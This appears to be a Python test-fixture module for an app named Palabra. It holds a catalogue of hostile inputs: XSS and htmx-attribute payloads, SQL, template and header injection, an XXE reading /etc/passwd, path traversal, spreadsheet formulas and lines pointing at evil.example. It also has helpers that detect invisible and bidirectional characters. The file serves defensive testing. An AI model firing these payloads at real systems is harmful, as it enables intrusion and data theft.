"""Hostile input: what an attacker, a broken client or an unlucky keyboard sends to Palabra.

Every character outside ASCII is written as an escape, so that the invisible ones (controls,
bidirectional overrides, zero-width joiners) can be seen in review.
"""

from __future__ import annotations

import sys
import unicodedata

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '<script type="module">import("//evil.example/x.js")</script>',
    "<script>fetch('/f/test-consultation/floor/next',{method:'POST'})</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=//evil.example><button>Send</button></form>",
    "</span></td></tr></tbody></table></section></main><h1>Fake</h1>",
    "<xmp><script>alert(1)</script></xmp>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<a href=# onclick=alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    'x" onerror="alert(1)',
]

HTMX_ATTRIBUTES = [
    '"><b hx-get="/x" hx-trigger="load">',
    '<b hx-get="/x" hx-trigger="load">',
    '<div hx-post="/f/test-consultation/floor/next" hx-trigger="load">',
    '<div hx-on::click="alert(1)">click</div>',
    '<div hx-on:click="alert(1)">click</div>',
    '<div hx-on--before-request="alert(1)">x</div>',
    '<div data-hx-get="/x" data-hx-trigger="load">',
    '<div hx-vals=\'{"kind":"point_of_order"}\' hx-post="/e/test-consultation/floor">',
    '<div hx-vals="js:{a:alert(1)}">',
    '<div hx-swap-oob="true" id="fac-floor">pwned</div>',
    '<section id="p-my-turn" hx-swap-oob="true">pwned</section>',
    '<div id="flash" hx-swap-oob="outerHTML">pwned</div>',
    '<div hx-headers=\'{"X-CSRF-Token":"x"}\'>',
    '<form hx-post="/join" hx-trigger="load"></form>',
    '<div hx-ext="ws" ws-connect="/ws/facilitator/test-consultation">',
    '<div hx-get="/f/test-consultation" hx-target="body" hx-trigger="every 1s">',
    '<img src=x hx-get="/x" hx-trigger="error">',
    '<div hx-include="#fac-floor" hx-post="/f/test-consultation/floor/finish" hx-trigger="load">',
    '" hx-get="/x" hx-trigger="load" x="',
    "' hx-on::load='alert(1)' x='",
    "<template><div hx-get=/x hx-trigger=load></div></template>",
    '<meta name="htmx-config" content=\'{"allowEval":true}\'>',
]

JAVASCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&#58;alert(1)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "vbscript:msgbox(1)",
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
]

TEMPLATES = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}",
    "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{# unclosed comment",
    "${7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(name)s %(place)s",
    "{name} {field} {0}",
    "%s%s%s%s%n",
]

SQL = [
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE participants; --',
    "'; DROP TABLE floor_requests; --",
    "1; DELETE FROM events",
    "' UNION SELECT name, sql FROM sqlite_master --",
    "%' OR name LIKE '%",
    "\\'; --",
    "Robert'); DROP TABLE Students;--",
    "'||(SELECT hex(randomblob(8)))||'",
    "ATTACH DATABASE '/tmp/x.db' AS x; --",
]

CONTROLS = [
    "\x00",
    "a\x00b",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "".join(chr(i) for i in range(32)),
    "a\x07b\x08c",
    "\x1b[31mred\x1b[0m",
    "line\nbreak",
    "cr\rlf\n",
    "\x7f",
    "\x85next line",
    "".join(chr(i) for i in range(0x80, 0xA0)),
    "\u2028line separator\u2029paragraph separator",
    "\x0b\x0cvertical tab and form feed",
    "Ana\x00\x01\x02 P\u00e9rez",
]

BIDI = [
    "\u202egnp.exe",
    "Ana\u202e<script>alert(1)</script>",
    "\u202aleft-to-right embedding",
    "\u202bright-to-left embedding",
    "\u202cpop directional formatting",
    "\u202dleft-to-right override",
    "\u2066left-to-right isolate\u2069",
    "\u2067right-to-left isolate\u2069",
    "\u2068first strong isolate\u2069",
    "\u200eleft-to-right mark",
    "\u200fright-to-left mark",
    "\u061carabic letter mark",
    "admin\u202e\u2066 nimda\u2069\u2066",
    "\u202e\u202d\u202c\u202b\u202a",
]

INVISIBLE = [
    "\u200b",
    "A\u200bna",
    "\u200c\u200d",
    "\ufeffAna",
    "\u2060word joiner",
    "\u00adsoft hyphen",
    "\u180emongolian vowel separator",
    "\u034fcombining grapheme joiner",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u3164",
]

EMOJI = [
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U0001f3f3\ufe0f\u200d\U0001f308",
    "\U0001f468\U0001f3fd\u200d\U0001f4bb Ana",
    "\U0001f1e8\U0001f1f1\U0001f1e7\U0001f1f7",
    "\u2764\ufe0f",
    "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1",
    "\U0001f600" * 50,
    "\U0001f600" * 121,
    "\U0001f44d\U0001f3ff",
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
]

COMBINING = [
    "Z\u0338\u0321\u0348a\u0334l\u0337g\u0337o\u0338",
    "".join(ch + "\u0336\u0334\u0335\u0337\u0338\u0321\u0322\u0327\u0328" * 3 for ch in "Zalgo"),
    "e\u0301",
    "\u0301",
    "a" + "\u0300" * 200,
    "Ana\u20dd",
    "\u1100\u1161\u11a8",
    "<\u0338script>alert(1)</script>",
]

RIGHT_TO_LEFT = [
    "\u0645\u0631\u062d\u0628\u0627",
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
    "\u0645\u0631\u062d\u0628\u0627 <script>alert(1)</script>",
    "\u072b\u0720\u0721\u0710",
    "\u078b\u07a8\u0788\u07ac\u0780\u07a8",
    "\u07d2\u07de\u07cf",
    "Ana \u0645\u0631\u062d\u0628\u0627 123",
    "\u0633\u0644\u0627\u0645 (\u0627\u06cc\u0631\u0627\u0646)",
]

LONG = [
    "A" * 120,
    "A" * 121,
    "A" * 200,
    "A" * 201,
    "\u00e9" * 121,
    "a" * 1000,
    "a" * 1001,
    "x " * 500,
    "<script>" * 200,
    "A" * 10_000,
    "A" * 100_000,
]

WHITESPACE = [
    "",
    " ",
    "   ",
    "\t",
    "\n\n\n",
    "\u00a0",
    "\u3000",
    "\u2003\u2009",
    " \t\n\r\x0b\x0c",
    "\u1680",
    "\u205f\u2028",
    "  Ana   P\u00e9rez  ",
]

NUMBERS = [
    "0",
    "-1",
    "1e308",
    "NaN",
    "9" * 30,
    "0x41",
    "+1",
    "1_000",
    "\u00b2",
    "\u2460",
    "\uff11\uff12\uff13",
    "\u0661\u0662\u0663",
]

PERCENT_ENCODED = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%00",
    "%2e%2e%2f",
    "%u003Cscript%u003E",
    "%C0%BCscript%C0%BE",
    "%E2%80%AE",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;",
    "&#60;script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\\u003cscript\\u003e",
    "+",
]

HEADER_INJECTION = [
    "a\r\nSet-Cookie: palabra_csrf=x",
    "a\r\n\r\n<script>alert(1)</script>",
    "%0d%0aSet-Cookie:%20x=1",
    "\r\nLocation: //evil.example",
    "a\nX-Injected: 1",
    "\u560d\u560aSet-Cookie: x=1",
]

NORMALISATION = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64script\ufe65",
    "\u3008script\u3009",
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1aalert(1)",
    "\ufb01",
    "\u1d2c\u1d30\u1d39\u1d35\u1d3a",
    "\u212a\u212b",
    "\u017fcript",
    "\u0130nfo",
    "\u00df",
    "\u0410na",
    "\U0001d400\U0001d427\U0001d41a",
]

MISCELLANEOUS = [
    "../../etc/passwd",
    "/f/test-consultation?key=",
    "http://evil.example/",
    "//evil.example",
    '{"name": "x"}',
    "[]",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>',
    "*)(uid=*))(|(uid=*",
    "$(reboot)",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "[x](javascript:alert(1))",
    "<b>bold</b>",
    "\\",
    '"',
    "'",
    "<",
    ">",
    "&",
    "\"'<>&",
    "Mar\u00eda P\u00e9rez O'Brien & Hijos <Delegaci\u00f3n>",
]

CATEGORIES = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "htmx attributes": HTMX_ATTRIBUTES,
    "javascript URLs": JAVASCRIPT_URLS,
    "SVG and MathML": SVG_AND_MATHML,
    "template injection": TEMPLATES,
    "SQL fragments": SQL,
    "control characters": CONTROLS,
    "bidirectional controls": BIDI,
    "invisible characters": INVISIBLE,
    "emoji": EMOJI,
    "combining marks": COMBINING,
    "right-to-left scripts": RIGHT_TO_LEFT,
    "long strings": LONG,
    "white space": WHITESPACE,
    "numbers as text": NUMBERS,
    "percent-encoded": PERCENT_ENCODED,
    "header injection": HEADER_INJECTION,
    "normalisation tricks": NORMALISATION,
    "miscellaneous": MISCELLANEOUS,
}

# Every string once, in a stable order.
CORPUS: list[str] = list(dict.fromkeys(value for values in CATEGORIES.values() for value in values))

# A few of each kind (about forty), for the fields that cost more per value.
SUBSET: list[str] = list(
    dict.fromkeys(
        [
            *(values[0] for values in CATEGORIES.values()),
            '" autofocus onfocus="alert(1)" x="',
            '<div hx-swap-oob="true" id="fac-floor">pwned</div>',
            "' hx-on::load='alert(1)' x='",
            '"; DROP TABLE participants; --',
            "a\x00b",
            "a\r\n\r\n<script>alert(1)</script>",
            "Ana\u202e<script>alert(1)</script>",
            "\u061carabic letter mark",
            "A\u200bna",
            "\u0661\u0662\u0663",
            " ",
            "-1",
            "A" * 121,
            "A" * 1000,
            "A" * 10_000,
            "A" * 100_000,
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            '=HYPERLINK("http://evil.example","x")',
            "\"'<>&",
        ]
    )
)

# What a path id can be made of besides a good number.
BAD_IDS = [
    "-1",
    "0",
    "-0",
    str(2**62 + 1),
    "9" * 30,
    "abc",
    "1.5",
    "1e3",
    "0x10",
    "+424242",
    " 424242",
    "424242.0",
    "\u0661",
    "\u00b2",
    "\uff11",
    "1\x00",
    "NaN",
    "1;DROP TABLE floor_requests",
    "<script>alert(1)</script>",
    "../1",
    "%00",
    "1_000",
]

# Unicode's Bidi_Control characters: none of them belongs in a stored name or summary.
BIDI_CONTROLS = frozenset(
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)


def is_unprintable(ch: str, *, keep: str = "") -> bool:
    """A control, a line or paragraph separator, or a bidirectional control."""
    if ch in keep:
        return False
    return ch in BIDI_CONTROLS or unicodedata.category(ch) in ("Cc", "Zl", "Zp")


# Unicode's format characters (category Cf: zero-width spaces and joiners, the word joiner,
# the byte order mark, invisible operators, tags...) and the fillers and variation
# selectors that show nothing by themselves: none of them belongs in a name.
FORMAT_CHARACTERS = "".join(
    ch for ch in map(chr, range(sys.maxunicode + 1)) if unicodedata.category(ch) == "Cf"
)
# Unicode's other default-ignorable code points (Hangul fillers, Khmer's inherent vowels,
# Mongolian's variation selectors...) and the blank Braille pattern, a space that is none.
FILLERS = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uffa0" + "".join(
    map(chr, [*range(0xFE00, 0xFE10), *range(0xE0100, 0xE01F0)])
)
INVISIBLE_IN_A_NAME = frozenset(FORMAT_CHARACTERS + FILLERS)
# What a script needs in running text: joiners inside emoji sequences and Indic or Arabic
# words, and the tags of a subdivision flag (\U0001f3f4 and its tags).
JOINERS = frozenset("\u200c\u200d")
TAGS = frozenset(map(chr, range(0xE0020, 0xE0080)))


def stray_format_characters(text: str) -> list[str]:
    """The format characters in ``text`` that no script needs where they are, as U+XXXX.

    A joiner must sit between two characters that show; a tag must follow one, or a tag.
    """
    stray = []
    for i, ch in enumerate(text):
        if unicodedata.category(ch) != "Cf":
            continue
        before, after = text[i - 1 : i], text[i + 1 : i + 2]
        if ch in JOINERS and _shows(before) and _shows(after):
            continue
        if ch in TAGS and (_shows(before) or before in TAGS):
            continue
        stray.append(f"U+{ord(ch):04X}")
    return stray


def _shows(ch: str) -> bool:
    return bool(ch) and not ch.isspace() and unicodedata.category(ch) != "Cf"
